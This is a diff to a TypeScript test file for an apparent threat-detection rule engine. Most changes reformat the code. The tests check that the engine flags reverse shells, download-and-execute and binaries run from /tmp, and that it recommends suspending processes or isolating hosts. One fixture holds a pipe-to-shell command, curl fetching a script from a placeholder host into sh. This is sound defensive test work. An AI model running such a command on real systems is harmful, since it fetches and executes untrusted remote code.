@@ -5,7 +5,14 @@ import { evaluateRules } from './rules.js';
 
 const settings = { suspiciousThreshold: 40, maliciousThreshold: 75, notifyAt: 'suspicious' as const };
 
-function ev(p: Partial<DetectionEvent> & { cmd?: string; parent?: string; self?: string; sev?: DetectionEvent['detection']['severity'] }): DetectionEvent {
+function ev(
+  p: Partial<DetectionEvent> & {
+    cmd?: string;
+    parent?: string;
+    self?: string;
+    sev?: DetectionEvent['detection']['severity'];
+  },
+): DetectionEvent {
   return {
     schemaVersion: 1,
     id: 'ev_1',
@@ -13,14 +20,31 @@ function ev(p: Partial<DetectionEvent> & { cmd?: string; parent?: string; self?:
     observedAt: '2026-11-26T09:00:00Z',
     receivedAt: '2026-11-26T09:00:00Z',
     host: { id: 'h', addresses: [] },
-    detection: { ruleId: 'r', ruleName: 'r', severity: p.sev ?? 'medium', techniques: [], tactics: [], tags: [] },
-    process: { pid: 10, name: p.self ?? 'bash', commandLine: p.cmd, ancestors: p.parent ? [{ name: p.parent }] : [] },
+    detection: {
+      ruleId: 'r',
+      ruleName: 'r',
+      severity: p.sev ?? 'medium',
+      techniques: [],
+      tactics: [],
+      tags: [],
+    },
+    process: {
+      pid: 10,
+      name: p.self ?? 'bash',
+      commandLine: p.cmd,
+      ancestors: p.parent ? [{ name: p.parent }] : [],
+    },
     raw: {},
     ...p,
   };
 }
 
-const enrich = (e: DetectionEvent) => ({ lineage: [], flags: lineageFlags(e), techniques: [], attackVersion: 'x' });
+const enrich = (e: DetectionEvent) => ({
+  lineage: [],
+  flags: lineageFlags(e),
+  techniques: [],
+  attackVersion: 'x',
+});
 
 describe('lineage flags', () => {
   it('flags a shell spawned by a web server and a /dev/tcp reverse shell', () => {
@@ -31,7 +55,9 @@ describe('lineage flags', () => {
   it('flags download-and-execute and execution from /tmp', () => {
     const e = ev({ self: 'sh', cmd: 'curl -s http://x.test/a.sh | sh' });
     expect(lineageFlags(e)).toContain('download-and-execute');
-    expect(lineageFlags(ev({ process: { executable: '/tmp/.x/miner', ancestors: [] } }))).toContain('exec-from-writable-dir');
+    expect(lineageFlags(ev({ process: { executable: '/tmp/.x/miner', ancestors: [] } }))).toContain(
+      'exec-from-writable-dir',
+    );
   });
   it('does not flag a shell started from another shell', () => {
     expect(lineageFlags(ev({ parent: 'bash', cmd: 'ls -la' }))).toEqual([]);
@@ -44,7 +70,10 @@ describe('rule set', () => {
     const d = evaluateRules(e, enrich(e), settings, 1, 't');
     expect(d.verdict).toBe('malicious');
     expect(d.actions.find((a) => a.action === 'notify-email')?.disposition).toBe('run');
-    expect(d.actions.filter((a) => a.disposition === 'recommend').map((a) => a.action)).toEqual(['suspend-process', 'isolate-host']);
+    expect(d.actions.filter((a) => a.disposition === 'recommend').map((a) => a.action)).toEqual([
+      'suspend-process',
+      'isolate-host',
+    ]);
   });
   it('closes a low-severity plain shell as benign without notifying', () => {
     const e = ev({ parent: 'bash', cmd: 'ls', sev: 'low' });
@@ -60,7 +89,13 @@ describe('rule set', () => {
   });
   it('keeps unknown ATT&CK ids in the reasons', () => {
     const e = ev({ sev: 'high' });
-    const d = evaluateRules(e, { ...enrich(e), techniques: [{ id: 'T9999', known: false, tactics: [] }] }, settings, 1, 't');
+    const d = evaluateRules(
+      e,
+      { ...enrich(e), techniques: [{ id: 'T9999', known: false, tactics: [] }] },
+      settings,
+      1,
+      't',
+    );
     expect(d.reasons.join(' ')).toContain('T9999');
   });
 });
